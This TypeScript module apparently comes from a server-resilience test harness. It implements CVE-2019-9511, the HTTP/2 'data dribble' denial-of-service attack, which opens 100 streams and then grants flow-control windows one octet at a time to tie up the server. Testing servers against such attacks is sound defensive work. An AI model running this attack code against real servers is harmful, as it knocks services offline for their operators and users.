import { streamingOutput, streams, windowUpdate } from './call.js';
import { greetingWith, repeatedly } from './offender.js';
import type { TestedAttack } from './tested-attack.js';

const ids = Array.from({ length: 100 }, (_, index) => 1 + 2 * index);
const oneOctetEach = Buffer.concat(ids.map((id) => windowUpdate(id, 1)));

/** CVE-2019-9511: a window of one octet at a time, so that every answer goes out in as many frames as it has octets. */
export const attack: TestedAttack = {
  name: 'response dribble',
  run: (connect, signal) =>
    repeatedly(
      connect,
      signal,
      async (offender) => {
        await offender.send(
          windowUpdate(0, 0x7fff0000),
          streams(1, ids.length, (id) => streamingOutput(id, 1_000, 65_536)),
        );
        while (offender.open) await offender.send(oneOctetEach);
      },
      { greeting: greetingWith([4, 0]) },
    ),
};
